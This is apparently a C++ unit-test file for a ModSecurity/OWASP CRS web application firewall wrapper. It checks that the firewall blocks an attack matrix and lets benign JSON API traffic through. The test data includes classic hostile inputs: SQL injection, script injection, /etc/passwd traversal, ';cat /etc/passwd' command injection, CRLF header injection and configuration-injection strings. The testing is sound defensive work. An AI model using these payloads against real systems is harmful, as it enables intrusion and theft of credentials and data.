#include "gateway/waf.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <memory>
#include <sstream>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

// LeakSanitizer (make test-asan): libmodsecurity 3.0.9's rules parser does not free its flex
// buffers when an included file fails to parse (RuleFileWithSyntaxErrorFails): a few KiB once per
// failed WafEngine::Create, inside the library.
extern "C" const char* __lsan_default_suppressions() {
  return "leak:yy_scan_buffer\nleak:yy_scan_bytes\n";
}

namespace moatless::gateway {
namespace {

namespace fs = std::filesystem;

// A realistic (unsigned) access token: header {"alg":"RS256","kid":"key-1","typ":"JWT"}.
constexpr char kJwt[] =
    "eyJhbGciOiJSUzI1NiIsImtpZCI6ImtleS0xIiwidHlwIjoiSldUIn0."
    "eyJpc3MiOiJodHRwczovL2lzc3Vlci5leGFtcGxlLmNvbS8iLCJzdWIiOiJ1c2VyLTQyIiwiYXVkIjoibm90ZXMiLCJleH"
    "AiOjE3MzAwMDAwMDAsInNjb3BlIjoibm90ZXM6cmVhZCBub3Rlczp3cml0ZSJ9."
    "c2lnbmF0dXJlLWJ5dGVzLWhlcmUtYmFzZTY0dXJsLWVuY29kZWQtLS0tLS0tLS0tLS0tLS0tLS0tLS0";
constexpr char kSessionCookie[] = "7f3c9a1e-5b2d-4c8e-9f1a-2d3e4f5a6b7c";

// What a browser (or fetch) sends to a JSON API, minus the body headers.
WafRequest BrowserRequest(std::string method, std::string uri) {
  WafRequest r;
  r.client_ip = "203.0.113.7";
  r.client_port = 51234;
  r.server_ip = "10.0.0.10";
  r.server_port = 443;
  r.method = std::move(method);
  r.uri = std::move(uri);
  r.request_id = "req-test-1";
  r.headers = {
      {"Host", "api.example.com"},
      {"User-Agent",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
       "Chrome/120.0.0.0 Safari/537.36"},
      {"Accept", "application/json, text/plain, */*"},
      {"Accept-Language", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5"},
      {"Accept-Encoding", "gzip, deflate, br"},
  };
  return r;
}

void SetHeader(WafRequest& r, const std::string& name, const std::string& value) {
  for (auto& [n, v] : r.headers) {
    if (n == name) {
      v = value;
      return;
    }
  }
  r.headers.emplace_back(name, value);
}

void SetBody(WafRequest& r, std::string content_type, std::string body) {
  if (!content_type.empty()) SetHeader(r, "Content-Type", content_type);
  SetHeader(r, "Content-Length", std::to_string(body.size()));
  r.body = std::move(body);
}

// A JSON API call with a bearer token and cookies.
WafRequest JsonCall(std::string method, std::string uri, std::string body) {
  WafRequest r = BrowserRequest(std::move(method), std::move(uri));
  SetHeader(r, "Authorization", std::string("Bearer ") + kJwt);
  SetHeader(r, "Origin", "https://app.example.com");
  SetHeader(r, "Referer", "https://app.example.com/notes/42?tab=edit");
  SetHeader(
      r, "Cookie",
      std::string("session=") + kSessionCookie + "; theme=dark; _ga=GA1.2.1234567890.1700000000");
  SetHeader(r, "X-Request-Id", "b7e1f0c2-6a3d-4e59-8f21-0c9d7a6b5e43");
  if (!body.empty()) SetBody(r, "application/json; charset=utf-8", std::move(body));
  return r;
}

std::string UrlEncode(std::string_view s) {
  std::string out;
  for (unsigned char c : s) {
    if (std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~') {
      out.push_back(static_cast<char>(c));
    } else {
      char buf[4];
      std::snprintf(buf, sizeof buf, "%%%02X", c);
      out += buf;
    }
  }
  return out;
}

std::string JsonString(std::string_view s) {
  std::string out = "\"";
  for (unsigned char c : s) {
    if (c == '"' || c == '\\') {
      out.push_back('\\');
      out.push_back(static_cast<char>(c));
    } else if (c < 0x20) {
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\u%04x", c);
      out += buf;
    } else {
      out.push_back(static_cast<char>(c));
    }
  }
  return out + "\"";
}

bool Has(const std::vector<int>& ids, int id) {
  return std::find(ids.begin(), ids.end(), id) != ids.end();
}

std::string Describe(const WafVerdict& v) {
  std::ostringstream out;
  out << "blocked=" << v.blocked << " matched=" << v.matched << " status=" << v.status
      << " score=" << v.anomaly_score << " rules=[";
  for (int id : v.rule_ids) out << id << ' ';
  out << "]\n" << v.log;
  return out.str();
}

std::unique_ptr<WafEngine> MustCreate(const WafSettings& settings, std::string crs_dir = "") {
  auto engine = WafEngine::Create(settings, std::move(crs_dir));
  EXPECT_TRUE(engine.ok()) << engine.status();
  return engine.ok() ? std::move(*engine) : nullptr;
}

// Where an attack payload travels.
enum class Place { kQuery, kForm, kJson, kUserAgent, kReferer, kCookie };
constexpr Place kPlaces[] = {Place::kQuery,     Place::kForm,    Place::kJson,
                             Place::kUserAgent, Place::kReferer, Place::kCookie};

std::string_view PlaceName(Place p) {
  switch (p) {
    case Place::kQuery:
      return "query";
    case Place::kForm:
      return "form";
    case Place::kJson:
      return "json";
    case Place::kUserAgent:
      return "user-agent";
    case Place::kReferer:
      return "referer";
    case Place::kCookie:
      return "cookie";
  }
  return "?";
}

WafRequest Placed(Place place, const std::string& payload) {
  // Header values cannot hold CR/LF (the HTTP parser refuses them), so headers carry what an
  // attacker can send: the percent-encoded form. Cookies are percent-encoded as usual.
  const bool has_ctl =
      std::any_of(payload.begin(), payload.end(), [](unsigned char c) { return c < 0x20; });
  const std::string header_value = has_ctl ? UrlEncode(payload) : payload;
  switch (place) {
    case Place::kQuery:
      return BrowserRequest("GET", "/notes?q=" + UrlEncode(payload) + "&limit=10");
    case Place::kForm: {
      WafRequest r = BrowserRequest("POST", "/notes");
      SetBody(r, "application/x-www-form-urlencoded", "title=x&q=" + UrlEncode(payload));
      return r;
    }
    case Place::kJson: {
      WafRequest r = BrowserRequest("POST", "/notes");
      SetBody(r, "application/json", "{\"title\":\"x\",\"q\":" + JsonString(payload) + "}");
      return r;
    }
    case Place::kUserAgent: {
      WafRequest r = BrowserRequest("GET", "/notes");
      SetHeader(r, "User-Agent", header_value);
      return r;
    }
    case Place::kReferer: {
      WafRequest r = BrowserRequest("GET", "/notes");
      SetHeader(r, "Referer", header_value);
      return r;
    }
    case Place::kCookie: {
      WafRequest r = BrowserRequest("GET", "/notes");
      SetHeader(r, "Cookie", "theme=dark; q=" + UrlEncode(payload));
      return r;
    }
  }
  return {};
}

struct Attack {
  std::string name;
  std::string payload;
  std::vector<Place> blocked_at;  // where CRS 3.3.4 at PL1 refuses it
};

// The attack matrix at paranoia level 1 (what CRS 3.3.4 on libmodsecurity 3.0.9 really does).
// Not caught, by design of CRS rather than by accident:
// - path traversal in Referer: 930100/930110 inspect every header except Referer (referers hold
//   paths legitimately) and 930120 inspects arguments and cookies only;
// - command injection in User-Agent / Referer: the 932 RCE rules inspect arguments and cookies;
//   in headers they look only for Shellshock "() {" (932170) and upload file names (932180);
// - CRLF header injection in User-Agent / Referer: headers are not percent-decoded, so an encoded
//   CRLF there is inert text (and a raw CRLF never gets past the HTTP parser).
std::vector<Attack> Attacks() {
  const std::vector<Place> all(std::begin(kPlaces), std::end(kPlaces));
  const std::vector<Place> args_and_cookies = {Place::kQuery, Place::kForm, Place::kJson,
                                               Place::kCookie};
  const std::vector<Place> all_but_referer = {Place::kQuery, Place::kForm, Place::kJson,
                                              Place::kUserAgent, Place::kCookie};
  return {
      {"sql-injection-tautology", "1' OR '1'='1", all},
      {"sql-injection-union", "1 UNION SELECT username, password FROM users--", all},
      {"xss-script", "<script>alert(1)</script>", all},
      {"path-traversal", "/../../etc/passwd", all_but_referer},
      {"command-injection", ";cat /etc/passwd", args_and_cookies},
      {"crlf-header-injection", "en\r\nSet-Cookie: session=attacker", args_and_cookies},
  };
}

class WafTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto start = std::chrono::steady_clock::now();
    block_ = MustCreate(WafSettings{}).release();
    auto took = std::chrono::steady_clock::now() - start;
    WafSettings detect;
    detect.mode = WafMode::kDetect;
    detect_ = MustCreate(detect).release();
    if (block_ != nullptr) {
      std::cout << "WafEngine::Create (CRS 3.3.4, PL1, " << block_->rule_count() << " rules): "
                << std::chrono::duration_cast<std::chrono::milliseconds>(took).count() << " ms\n";
    }
  }
  static void TearDownTestSuite() {
    delete block_;
    delete detect_;
    block_ = detect_ = nullptr;
  }
  void SetUp() override {
    ASSERT_NE(block_, nullptr);
    ASSERT_NE(detect_, nullptr);
  }

  static WafEngine* block_;
  static WafEngine* detect_;
};
WafEngine* WafTest::block_ = nullptr;
WafEngine* WafTest::detect_ = nullptr;

TEST_F(WafTest, LoadsTheCrsRequestRules) {
  EXPECT_EQ(block_->rule_files().size(), 16u);
  EXPECT_EQ(block_->rule_files().front(),
            std::string(kDebianCrsRulesDir) + "/REQUEST-901-INITIALIZATION.conf");
  EXPECT_GT(block_->rule_count(), 200);
  const std::string& config = block_->config();
  EXPECT_NE(config.find("SecRuleEngine On\n"), std::string::npos);
  EXPECT_NE(detect_->config().find("SecRuleEngine DetectionOnly\n"), std::string::npos);
  EXPECT_NE(config.find("setvar:tx.crs_setup_version=334"), std::string::npos);
  EXPECT_NE(config.find("setvar:tx.paranoia_level=1\""), std::string::npos);
  EXPECT_NE(config.find("setvar:tx.inbound_anomaly_score_threshold=5,"), std::string::npos);
  EXPECT_NE(config.find("ctl:requestBodyProcessor=JSON"), std::string::npos);
  EXPECT_NE(config.find("ctl:requestBodyProcessor=URLENCODED"), std::string::npos);
  EXPECT_EQ(config.find("IncludeOptional"), std::string::npos);
  EXPECT_EQ(config.find("Include /etc/"), std::string::npos);  // not Debian's crs-setup.conf
}

TEST_F(WafTest, BlocksTheAttackMatrixAtParanoiaLevel1) {
  for (const Attack& attack : Attacks()) {
    for (Place place : kPlaces) {
      SCOPED_TRACE(attack.name + " in " + std::string(PlaceName(place)));
      WafVerdict v = block_->Inspect(Placed(place, attack.payload));
      const bool expected = std::find(attack.blocked_at.begin(), attack.blocked_at.end(), place) !=
                            attack.blocked_at.end();
      EXPECT_EQ(v.blocked, expected) << Describe(v);
      EXPECT_EQ(v.matched, expected) << Describe(v);
      if (expected) {
        EXPECT_EQ(v.status, 403);
        EXPECT_TRUE(Has(v.rule_ids, 949110)) << Describe(v);
        EXPECT_GE(v.rule_ids.size(), 2u) << Describe(v);  // the detection and 949110
        EXPECT_GE(v.anomaly_score, 5);
        EXPECT_NE(v.log.find("[id \"949110\"]"), std::string::npos);
      } else {
        EXPECT_EQ(v.status, 0);
      }
    }
  }
}

TEST_F(WafTest, NamesTheRulesThatMatched) {
  WafVerdict sqli = block_->Inspect(Placed(Place::kQuery, "1' OR '1'='1"));
  EXPECT_TRUE(Has(sqli.rule_ids, 942100)) << Describe(sqli);  // libinjection
  WafVerdict xss = block_->Inspect(Placed(Place::kJson, "<script>alert(1)</script>"));
  EXPECT_TRUE(Has(xss.rule_ids, 941100)) << Describe(xss);
  WafVerdict lfi = block_->Inspect(Placed(Place::kQuery, "/../../etc/passwd"));
  EXPECT_TRUE(Has(lfi.rule_ids, 930100)) << Describe(lfi);  // encoded traversal
  EXPECT_TRUE(Has(lfi.rule_ids, 930120)) << Describe(lfi);  // OS file access
  WafVerdict rce = block_->Inspect(Placed(Place::kForm, ";cat /etc/passwd"));
  EXPECT_TRUE(Has(rce.rule_ids, 932100)) << Describe(rce);
  WafVerdict crlf = block_->Inspect(Placed(Place::kQuery, "en\r\nSet-Cookie: session=attacker"));
  EXPECT_TRUE(Has(crlf.rule_ids, 921160)) << Describe(crlf);  // header injection via arg name
  EXPECT_TRUE(Has(crlf.rule_ids, 921120)) << Describe(crlf);  // response splitting
}

TEST_F(WafTest, BlocksProtocolViolations) {
  WafRequest bad_length = BrowserRequest("POST", "/notes");
  SetHeader(bad_length, "Content-Type", "application/json");
  SetHeader(bad_length, "Content-Length", "12abc");
  WafVerdict v = block_->Inspect(bad_length);
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 920160)) << Describe(v);  // Content-Length is not numeric

  WafRequest get_with_body = BrowserRequest("GET", "/notes");
  SetBody(get_with_body, "application/json", "{\"a\":1}");
  v = block_->Inspect(get_with_body);
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 920170)) << Describe(v);

  v = block_->Inspect(BrowserRequest("TRACE", "/notes"));  // not in allowed_methods
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 911100)) << Describe(v);

  WafRequest xml = BrowserRequest("POST", "/notes");  // a type outside the CRS policy
  SetBody(xml, "application/x-java-serialized-object", "rO0ABXNyABFqYXZh");
  v = block_->Inspect(xml);
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 920420)) << Describe(v);

  WafRequest no_host = BrowserRequest("GET", "/notes");
  no_host.headers.erase(no_host.headers.begin());  // Host: a warning (3) is under the threshold
  v = block_->Inspect(no_host);
  EXPECT_FALSE(v.blocked) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 920280)) << Describe(v);
  EXPECT_EQ(v.anomaly_score, 3);
}

// Bodies the engine cannot see into are refused rather than waved through.
TEST_F(WafTest, RefusesBodiesItCannotInspect) {
  WafVerdict v = block_->Inspect(JsonCall("POST", "/notes", "{\"text\":"));
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 10010)) << Describe(v);
  EXPECT_NE(v.log.find("JSON parsing error"), std::string::npos);

  v = block_->Inspect(JsonCall("POST", "/notes", std::string(600, '[') + std::string(600, ']')));
  EXPECT_TRUE(v.blocked) << Describe(v);  // deeper than SecRequestBodyJsonDepthLimit
  EXPECT_TRUE(Has(v.rule_ids, 10010)) << Describe(v);

  // ModSecurity keeps 1000 arguments and drops the rest unseen: a payload behind 1000 decoys.
  std::string many = "{";
  for (int i = 0; i < 1000; ++i) many += "\"k" + std::to_string(i) + "\":1,";
  many += "\"z\":\"1' OR '1'='1\"}";
  v = block_->Inspect(JsonCall("POST", "/notes", many));
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 10011)) << Describe(v);

  // An undeclared body is parsed as JSON (CRS alone would leave it unparsed and pass it).
  WafRequest undeclared = BrowserRequest("POST", "/notes");
  SetHeader(undeclared, "Content-Length", "24");
  undeclared.body = "{\"text\":\"1' OR '1'='1\"}";
  v = block_->Inspect(undeclared);
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 942100)) << Describe(v);
}

TEST_F(WafTest, RefusesBodiesOverTheLimit) {
  WafSettings settings;
  settings.request_body_limit = 1024;
  auto engine = MustCreate(settings);
  ASSERT_NE(engine, nullptr);
  WafVerdict v =
      engine->Inspect(JsonCall("POST", "/notes", "{\"text\":\"" + std::string(2000, 'a') + "\"}"));
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_EQ(v.status, 403);
  v = engine->Inspect(JsonCall("POST", "/notes", "{\"text\":\"" + std::string(500, 'a') + "\"}"));
  EXPECT_FALSE(v.matched) << Describe(v);
}

// Realistic JSON API traffic: a bearer JWT, cookies, Accept-Language, JSON bodies.
TEST_F(WafTest, PassesBenignJsonApiRequests) {
  const std::vector<std::string> bodies = {
      R"j({"title":"Weekly",)j"
      R"j("text":"Please SELECT a topic from the list and update the table by Friday."})j",
      R"j({"contact":"jane.doe+notes@example.com","name":"Jane O'Brien"})j",
      R"j({"link":"https://example.com/search?q=serverless&lang=en#results",)j"
      R"j("image":"http://cdn.example.org/a/b.png"})j",
      R"j({"snippet":"const x = items.filter(i => i.name === 'foo' && i.count > 2); // done",)j"
      R"j("lang":"js"})j",
      R"j({"text":"It's John's book -- don't you think? He said \"yes\"; she said 'no'."})j",
      R"j({"file":"reports/2024/q1.pdf","dir":"/home/user/docs"})j",
      R"j({"text":"Use <b>bold</b> and <i>italic</i> text"})j",
      R"j({"html":"<p>Hello <a href=\"https://example.com/welcome\">click here</a></p>"})j",
      R"j({"amount":12.5,"currency":"EUR","tags":["a","b"],)j"
      R"j("nested":{"x":[1,2,{"y":null}]},"ok":true})j",
      R"j({"text":"Grüße aus Zürich — naïve café ✓ 日本語 🎉"})j",
      R"j({"text":"coffee or tea? 1 or 2, and/or both"})j",
      R"j({"text":"Select all that apply: union members, from the east, where applicable."})j",
      R"j({"phone":"+41 (0)44 123 45 67","date":"2024-01-31T12:00:00Z"})j",
      R"j({"username":"jane","password":"Tr0ub4dor&3'x;--"})j",
      R"j({"avatar":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChw)j"
      R"j(GA60e6kgAAAABJRU5ErkJggg=="})j",
      R"j({"filter":"name eq 'john' and age gt 30"})j",
      R"j({"pattern":"^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"})j",
      R"j({"comment":"I <3 this! :) #awesome @john -- see you at 5pm; bring snacks & drinks"})j",
      R"j({"text":"Run `npm install` then `npm test`; if it fails, rm -rf node_modules"})j",
      R"j({"csv":"id,name,amount\n1,\"Smith, John\",10.5\n2,O'Hara,3"})j",
      R"j([{"op":"replace","path":"/title","value":"New title"},)j"
      R"j({"op":"remove","path":"/tags/0"}])j",
      R"j({"path":"C:\\Users\\jane\\Documents\\report.docx"})j",
      R"j({"payload":"{\"a\":1,\"b\":[true,false,null]}"})j",
      R"j({"callback":"https://example.com/cb?state=abc&code=123&)j"
      R"j(redirect_uri=https%3A%2F%2Fapp.example.com"})j",
  };
  for (const std::string& body : bodies) {
    SCOPED_TRACE(body);
    WafVerdict v = block_->Inspect(JsonCall("POST", "/notes", body));
    EXPECT_FALSE(v.matched) << Describe(v);
    EXPECT_FALSE(v.blocked);
    EXPECT_TRUE(v.rule_ids.empty()) << Describe(v);
    EXPECT_EQ(v.anomaly_score, 0);
  }
  for (const char* method : {"GET", "DELETE"}) {
    WafVerdict v = block_->Inspect(
        JsonCall(method, "/notes/42?limit=20&offset=40&sort=-created_at&filter=status:open", ""));
    EXPECT_FALSE(v.matched) << method << ": " << Describe(v);
  }
  for (const char* method : {"PUT", "PATCH"}) {
    WafVerdict v = block_->Inspect(JsonCall(method, "/notes/42", R"j({"text":"x"})j"));
    EXPECT_FALSE(v.matched) << method << ": " << Describe(v);
  }
  // fetch(url, {method: "POST", body: JSON.stringify(x)}) sends text/plain.
  WafRequest fetch = JsonCall("POST", "/notes", R"j({"text":"hello"})j");
  SetHeader(fetch, "Content-Type", "text/plain;charset=UTF-8");
  WafVerdict v = block_->Inspect(fetch);
  EXPECT_FALSE(v.matched) << Describe(v);
  // ...and such a body is inspected as JSON.
  SetBody(fetch, "text/plain;charset=UTF-8", R"j({"text":"1' OR '1'='1"})j");
  v = block_->Inspect(fetch);
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_TRUE(Has(v.rule_ids, 942100)) << Describe(v);
}

// False positives CRS 3.3.4 raises at PL1 on ordinary JSON API content, and the exclusions that
// make them pass.
//   markdown link "[link](https://...)"             933210 PHP variable function call
//   GraphQL query "{ notes { id title } }"          932100 Unix command injection
//   code "if (a == \"b\") { return 'c'; } else ..."  932140 Windows FOR/IF, 942230 conditional SQLi
//   arithmetic "(a + b) * c / 2 >= 10 || x != y"     942100 libinjection
//   prose about SQL "...; select count(*) from ..."  932115 Windows command, 942350 SQL UDF
// The first two are the common ones: exclude 933210 (or the tag language-php: no PHP runs on
// moatless) for APIs that store markdown, and 932100 for GraphQL endpoints (930120 and 932160
// still catch ";cat /etc/passwd"). The last three are content that looks like attacks; an API
// that stores source code needs a dedicated policy (detect mode or a higher threshold).
TEST_F(WafTest, CommonFalsePositivesAndTheirExclusions) {
  const std::string markdown =
      R"j({"text":"# Notes\n\n* one\n* two\n\nSee [the docs](https://example.com/docs)."})j";
  const std::string graphql = R"j({"query":"query Notes($first: Int) { notes(first: $first) )j"
                              R"j({ id title author { name } } }",)j"
                              R"j("variables":{"first":10}})j";
  struct Case {
    std::string body;
    std::vector<int> rules;
  };
  const std::vector<Case> cases = {
      {markdown, {933210}},
      {graphql, {932100}},
      {R"j({"snippet":"if (a == \"b\") { return 'c'; } else { print(\"d\") }"})j",
       {932140, 942230}},
      {R"j({"expr":"(a + b) * c / 2 >= 10 || x != y"})j", {942100}},
      {R"j({"text":"drop the old table and create a new one; )j"
       R"j(select count(*) from users where id = 1"})j",
       {932115, 942350}},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.body);
    WafVerdict v = block_->Inspect(JsonCall("POST", "/notes", c.body));
    EXPECT_TRUE(v.blocked) << Describe(v);
    std::vector<int> expected = c.rules;
    expected.push_back(949110);
    EXPECT_EQ(v.rule_ids, expected) << Describe(v);
  }

  WafSettings by_id;
  by_id.excluded_rule_ids = {933210, 932100};
  auto tuned = MustCreate(by_id);
  ASSERT_NE(tuned, nullptr);
  EXPECT_NE(tuned->config().find("SecRuleRemoveById 933210 932100\n"), std::string::npos);
  for (const std::string& body : {markdown, graphql}) {
    WafVerdict v = tuned->Inspect(JsonCall("POST", "/notes", body));
    EXPECT_FALSE(v.matched) << body << "\n" << Describe(v);
  }
  // What the exclusions cost: command injection is still caught by other rules.
  WafVerdict v = tuned->Inspect(Placed(Place::kJson, ";cat /etc/passwd"));
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_FALSE(Has(v.rule_ids, 932100));
  EXPECT_TRUE(Has(v.rule_ids, 932160)) << Describe(v);

  WafSettings by_tag;
  by_tag.excluded_tags = {"language-php"};
  auto no_php = MustCreate(by_tag);
  ASSERT_NE(no_php, nullptr);
  v = no_php->Inspect(JsonCall("POST", "/notes", markdown));
  EXPECT_FALSE(v.matched) << Describe(v);
}

TEST_F(WafTest, DetectModeMatchesWithoutBlocking) {
  for (const Attack& attack : Attacks()) {
    for (Place place : attack.blocked_at) {
      SCOPED_TRACE(attack.name + " in " + std::string(PlaceName(place)));
      WafRequest request = Placed(place, attack.payload);
      WafVerdict blocked = block_->Inspect(request);
      WafVerdict v = detect_->Inspect(request);
      EXPECT_TRUE(v.matched) << Describe(v);
      EXPECT_FALSE(v.blocked);
      EXPECT_EQ(v.status, 0);
      EXPECT_EQ(v.anomaly_score, blocked.anomaly_score);
      EXPECT_EQ(v.rule_ids, blocked.rule_ids);  // 949110 included: it logs, it does not deny
      for (int id : v.rule_ids) {
        EXPECT_NE(v.log.find("[id \"" + std::to_string(id) + "\"]"), std::string::npos) << v.log;
      }
      EXPECT_EQ(v.log.find("Access denied"), std::string::npos) << v.log;
    }
  }
  WafVerdict benign = detect_->Inspect(JsonCall("POST", "/notes", R"j({"text":"hello"})j"));
  EXPECT_FALSE(benign.matched) << Describe(benign);
  EXPECT_TRUE(benign.log.empty());
}

TEST_F(WafTest, OffModeInspectsNothing) {
  WafSettings off;
  off.mode = WafMode::kOff;
  auto engine = WafEngine::Create(off, "/nonexistent/crs");  // nothing is loaded
  ASSERT_TRUE(engine.ok()) << engine.status();
  WafVerdict v = (*engine)->Inspect(Placed(Place::kQuery, "1' OR '1'='1"));
  EXPECT_FALSE(v.matched);
  EXPECT_FALSE(v.blocked);
  EXPECT_EQ((*engine)->rule_count(), 0);
}

TEST_F(WafTest, ExclusionsByIdAndTag) {
  WafSettings by_id;
  by_id.excluded_rule_ids = {942100};
  auto no_libinjection = MustCreate(by_id);
  ASSERT_NE(no_libinjection, nullptr);
  // The tautology is caught by libinjection alone...
  WafVerdict v = no_libinjection->Inspect(Placed(Place::kQuery, "1' OR '1'='1"));
  EXPECT_FALSE(v.matched) << Describe(v);
  EXPECT_TRUE(v.rule_ids.empty()) << Describe(v);
  // ...UNION SELECT by three more rules.
  v = no_libinjection->Inspect(
      Placed(Place::kQuery, "1 UNION SELECT username, password FROM users--"));
  EXPECT_TRUE(v.blocked) << Describe(v);
  EXPECT_FALSE(Has(v.rule_ids, 942100));

  WafSettings by_tag;
  by_tag.excluded_tags = {"attack-sqli"};
  auto no_sqli = MustCreate(by_tag);
  ASSERT_NE(no_sqli, nullptr);
  EXPECT_NE(no_sqli->config().find("SecRuleRemoveByTag \"attack-sqli\"\n"), std::string::npos);
  v = no_sqli->Inspect(Placed(Place::kQuery, "1 UNION SELECT username, password FROM users--"));
  EXPECT_FALSE(v.matched) << Describe(v);
  v = no_sqli->Inspect(Placed(Place::kQuery, "<script>alert(1)</script>"));
  EXPECT_TRUE(v.blocked) << Describe(v);
}

TEST_F(WafTest, ThresholdAndParanoiaLevel) {
  WafSettings lenient;
  lenient.inbound_anomaly_threshold = 10;
  auto engine = MustCreate(lenient);
  ASSERT_NE(engine, nullptr);
  WafVerdict v = engine->Inspect(Placed(Place::kQuery, "1' OR '1'='1"));  // one critical: 5
  EXPECT_FALSE(v.matched) << Describe(v);
  EXPECT_EQ(v.anomaly_score, 5);
  EXPECT_TRUE(Has(v.rule_ids, 942100));
  v = engine->Inspect(Placed(Place::kQuery, "<script>alert(1)</script>"));  // three: 15
  EXPECT_TRUE(v.blocked) << Describe(v);

  WafSettings paranoid;
  paranoid.paranoia_level = 2;
  auto pl2 = MustCreate(paranoid);
  ASSERT_NE(pl2, nullptr);
  EXPECT_NE(pl2->config().find("setvar:tx.paranoia_level=2\""), std::string::npos);
  WafVerdict at1 = block_->Inspect(Placed(Place::kQuery, "1 UNION SELECT username FROM users"));
  WafVerdict at2 = pl2->Inspect(Placed(Place::kQuery, "1 UNION SELECT username FROM users"));
  EXPECT_GT(at2.anomaly_score, at1.anomaly_score) << Describe(at1) << Describe(at2);
}

TEST_F(WafTest, RefusesInvalidSettings) {
  const auto expect_invalid = [](const WafSettings& s, std::string_view needle) {
    auto engine = WafEngine::Create(s);
    ASSERT_FALSE(engine.ok());
    EXPECT_EQ(engine.status().code(), core::StatusCode::kInvalidArgument);
    EXPECT_NE(engine.status().message().find(needle), std::string::npos) << engine.status();
  };
  WafSettings s;
  s.paranoia_level = 5;
  expect_invalid(s, "paranoia_level");
  s = {};
  s.inbound_anomaly_threshold = 0;
  expect_invalid(s, "inbound_anomaly_threshold");
  s = {};
  s.excluded_rule_ids = {949110};  // would switch blocking off while looking on
  expect_invalid(s, "949110");
  s = {};
  s.excluded_rule_ids = {-1};
  expect_invalid(s, "-1");
  s = {};
  s.excluded_tags = {"attack-sqli\"\nSecRuleEngine Off"};  // no configuration injection
  expect_invalid(s, "excluded tag");
  s = {};
  s.excluded_tags = {"platform-multi"};  // 949110 carries it
  expect_invalid(s, "platform-multi");
  s = {};
  s.allowed_methods = {"GET' SecRuleEngine Off"};
  expect_invalid(s, "allowed method");
}

// A scratch copy of the CRS rules folder (symlinks), to break.
class CrsCopy {
 public:
  CrsCopy() {
    char tmpl[] = "/tmp/moatless-waf-test-XXXXXX";
    const char* dir = ::mkdtemp(tmpl);
    EXPECT_NE(dir, nullptr);
    dir_ = dir != nullptr ? dir : "/nonexistent";
    std::error_code ec;
    for (const auto& entry : fs::directory_iterator(kDebianCrsRulesDir, ec)) {
      fs::create_symlink(entry.path(), fs::path(dir_) / entry.path().filename(), ec);
      EXPECT_FALSE(ec) << ec.message();
    }
  }
  ~CrsCopy() {
    std::error_code ec;
    fs::remove_all(dir_, ec);
  }
  const std::string& dir() const { return dir_; }
  std::string path(std::string_view name) const { return (fs::path(dir_) / name).string(); }
  void Remove(std::string_view name) const { fs::remove(path(name)); }
  void Write(std::string_view name, const std::string& contents) const {
    Remove(name);
    std::ofstream(path(name)) << contents;
  }

 private:
  std::string dir_;
};

TEST_F(WafTest, MissingRulesDirectoryFails) {
  auto engine = WafEngine::Create(WafSettings{}, "/nonexistent/modsecurity-crs");
  ASSERT_FALSE(engine.ok());
  EXPECT_EQ(engine.status().code(), core::StatusCode::kFailedPrecondition);
  EXPECT_NE(engine.status().message().find("/nonexistent/modsecurity-crs"), std::string::npos)
      << engine.status();
}

TEST_F(WafTest, MissingRuleFileFails) {
  CrsCopy crs;
  crs.Remove("REQUEST-942-APPLICATION-ATTACK-SQLI.conf");
  auto engine = WafEngine::Create(WafSettings{}, crs.dir());
  ASSERT_FALSE(engine.ok());
  EXPECT_EQ(engine.status().code(), core::StatusCode::kFailedPrecondition);
  EXPECT_NE(engine.status().message().find(crs.path("REQUEST-942-APPLICATION-ATTACK-SQLI.conf")),
            std::string::npos)
      << engine.status();
}

TEST_F(WafTest, RuleFileWithSyntaxErrorFails) {
  CrsCopy crs;
  crs.Write("REQUEST-944-APPLICATION-ATTACK-JAVA.conf",
            "SecRule ARGS \"@rx foo\" \"id:944999,phase:2,block,\n"
            "    notAnAction:1\"\n");
  auto engine = WafEngine::Create(WafSettings{}, crs.dir());
  ASSERT_FALSE(engine.ok());
  EXPECT_EQ(engine.status().code(), core::StatusCode::kFailedPrecondition);
  const std::string message = engine.status().message();
  EXPECT_NE(message.find(crs.path("REQUEST-944-APPLICATION-ATTACK-JAVA.conf")), std::string::npos)
      << message;
  EXPECT_NE(message.find("Rules error"), std::string::npos) << message;  // ModSecurity's words

  CrsCopy missing_data;  // a data file a rule reads at load time
  missing_data.Remove("lfi-os-files.data");
  engine = WafEngine::Create(WafSettings{}, missing_data.dir());
  ASSERT_FALSE(engine.ok());
  EXPECT_EQ(engine.status().code(), core::StatusCode::kFailedPrecondition);
  EXPECT_NE(engine.status().message().find("lfi-os-files.data"), std::string::npos)
      << engine.status();
}

TEST_F(WafTest, AcceptsTheCrsParentFolder) {
  auto engine = WafEngine::Create(WafSettings{}, "/usr/share/modsecurity-crs");
  ASSERT_TRUE(engine.ok()) << engine.status();
  EXPECT_EQ((*engine)->rule_files().back(),
            "/usr/share/modsecurity-crs/rules/REQUEST-949-BLOCKING-EVALUATION.conf");
}

